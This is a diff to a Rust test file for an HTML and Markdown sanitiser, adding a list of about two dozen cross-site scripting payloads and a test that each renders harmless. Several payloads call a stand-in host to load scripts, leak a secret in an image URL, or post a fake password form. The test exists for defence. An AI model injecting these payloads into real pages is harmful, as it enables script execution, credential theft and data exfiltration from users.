@@ -75,9 +75,46 @@ fn html_pages_are_cleaned_and_keep_the_ids_of_headings() {
     assert_eq!(page, "<h2 id=\"key\">The <b>key</b></h2><p>x</p><h2>b</h2>");
 }
 
-/// Inputs of a well-known sanitiser's tests: none may leave anything that runs.
+/// One of each kind of attack on whoever shows a page.
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
+    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">a</a>",
+    "<a href=\" &#106;avascript:alert(1)\">a</a>",
+    "<a href=\"java\tscript:alert(1)\">a</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>",
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\nscript:alert(1)>)",
+    "![a](https://evil.example/?q=secret) ![b][ref]\n\n[ref]: https://evil.example/?q=secret",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=evil.swf></object><embed src=evil.swf>",
+    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
+    "<base href=https://evil.example/><a href=x>a</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
+    "<p style=\"background:url(https://evil.example/?q=secret)\" onmouseover=alert(1)>p</p>",
+    "<!--><script>alert(1)</script-->",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<table background=javascript:alert(1)><tr><td>a</table>",
+    "<details open ontoggle=alert(1)><summary>a</summary></details>",
+];
+
 #[test]
 fn known_attacks_do_nothing() {
+    for input in ATTACKS {
+        for page in [html(input, "markdown"), html(input, "html")] {
+            assert_harmless(input, &page);
+        }
+    }
+}
+
+/// Inputs of a well-known sanitiser's tests, where they are there: none may leave anything that runs.
+#[test]
+fn the_attacks_of_another_sanitisers_tests_do_nothing() {
     let path = shared_data().join("strings/bleach_pairs.jsonl");
     let Ok(pairs) = std::fs::read_to_string(&path) else {
         eprintln!("skipped: {} is not there (SHARED_DATA says where the shared data is)", path.display());
